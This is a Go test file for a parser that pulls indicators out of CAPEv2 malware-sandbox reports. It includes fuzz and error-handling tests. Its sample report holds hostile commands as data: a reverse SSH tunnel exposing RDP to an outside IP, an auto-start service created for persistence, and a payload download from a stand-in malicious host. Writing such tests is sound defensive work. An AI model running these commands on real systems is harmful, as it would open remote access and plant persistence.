package payload

import (
	"bytes"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// capeReport is a report made by hand in the form of CAPEv2's.
const capeReport = `{"info":{"version":"2.4-CAPE","id":7},"target":{"file":{"name":"setup.exe","strings":["http://elsewhere-in-strings.com/"]}},
"behavior":{"processes":[{"process_id":4,"process_name":"cmd.exe","environ":{"CommandLine":"\"C:\\Windows\\system32\\cmd.exe\" /c start 7655.bat"},
 "calls":[{"api":"NtCreateFile","arguments":[{"name":"FileName","value":"C:\\x"}]}]},
 {"command_line":"ssh -N -R 7655:localhost:3389 user@203.0.113.7"}],
"summary":{"files":["C:\\ProgramData\\Updater\\key"],"write_files":["C:\\ProgramData\\Updater\\UpdaterSvc.exe"],
 "write_keys":["HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\UpdaterSvc"],"executed_commands":["sc create UpdaterSvc binPath= x start= auto"],"created_services":["UpdaterSvc"],"mutexes":["x"]}},
"network":{"domains":[{"domain":"Evil-Site.com","ip":"198.51.100.9"}],"hosts":[{"ip":"2001:db8::7","country_name":"x"},"198.51.100.10"],
 "udp":[{"dst":"239.255.255.250","dport":1900}],"http":[{"uri":"http://evil-site.com/a.exe","host":"evil-site.com:80"}]},
"dropped":[{"name":["run.bat"],"guest_paths":["C:\\ProgramData\\run.bat"],"sha256":"aa"}]}`

func TestCAPE(t *testing.T) {
	x, problems, err := ReadCAPE(strings.NewReader(capeReport))
	if err != nil || len(problems) > 0 {
		t.Fatal(problems, err)
	}
	for name, c := range map[string]struct{ got, want []string }{
		"commands": {x.Commands, []string{`"C:\Windows\system32\cmd.exe" /c start 7655.bat`, "ssh -N -R 7655:localhost:3389 user@203.0.113.7", "sc create UpdaterSvc binPath= x start= auto"}},
		"services": {x.Services, []string{"UpdaterSvc"}},
		"files":    {x.Files, []string{"7655.bat", `C:\Windows\system32\cmd.exe`, `C:\ProgramData\Updater\key`, `C:\ProgramData\Updater\UpdaterSvc.exe`, "run.bat", `C:\ProgramData\run.bat`}},
		"registry": {x.Registry, []string{`HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\UpdaterSvc`}},
		"domains":  {x.Domains, []string{"evil-site.com"}},
		"urls":     {x.URLs, []string{"http://evil-site.com/a.exe"}},
		"ips":      {x.IPs, []string{"203.0.113.7", "198.51.100.9", "2001:db8::7", "198.51.100.10"}},
	} {
		if d := cmp.Diff(c.want, c.got); d != "" {
			t.Errorf("%s: %s", name, d)
		}
	}
}

func TestCAPERefuses(t *testing.T) {
	for text, want := range map[string]string{
		"":                             "it is empty",
		"[]":                           "it is no JSON object",
		"MZ":                           "invalid character",
		"{}":                           "no behavior",
		`{"behavior":{}} {}`:           "more follows",
		capeReport[:len(capeReport)/2]: "in the middle",
		`{"behavior":` + strings.Repeat("[", 100) + strings.Repeat("]", 100) + "}": "more than 64 levels",
	} {
		_, _, err := ReadCAPE(strings.NewReader(text))
		if err == nil || !strings.Contains(err.Error(), want) || strings.Contains(err.Error(), "\n") {
			t.Errorf("%.30q: %v, want %q", text, err, want)
		}
	}
}

// Of a kind no more is listed than the limit, and that is said.
func TestCAPELimit(t *testing.T) {
	var b bytes.Buffer
	b.WriteString(`{"behavior":{"summary":{"files":["C:\\a"`)
	for i := range 3 * maxOfKind {
		b.WriteString(`,"C:\\` + strings.Repeat("x", i%maxOfKind+1) + strings.Repeat("y", i/maxOfKind) + `"`)
	}
	b.WriteString(`]}}}`)
	x, problems, err := ReadCAPE(&b)
	if err != nil || len(x.Files) != maxOfKind || !slices.ContainsFunc(problems, func(p string) bool { return strings.Contains(p, "kind file are not listed") }) {
		t.Errorf("%d files, %q, %v", len(x.Files), problems, err)
	}
}

func FuzzCAPE(f *testing.F) {
	f.Add([]byte(capeReport))
	f.Add([]byte(`{"network":{"hosts":["::1%lo"]}}`))
	f.Fuzz(func(t *testing.T, b []byte) {
		if _, _, err := ReadCAPE(bytes.NewReader(b)); err != nil && strings.Contains(err.Error(), "\n") {
			t.Errorf("%q", err)
		}
	})
}
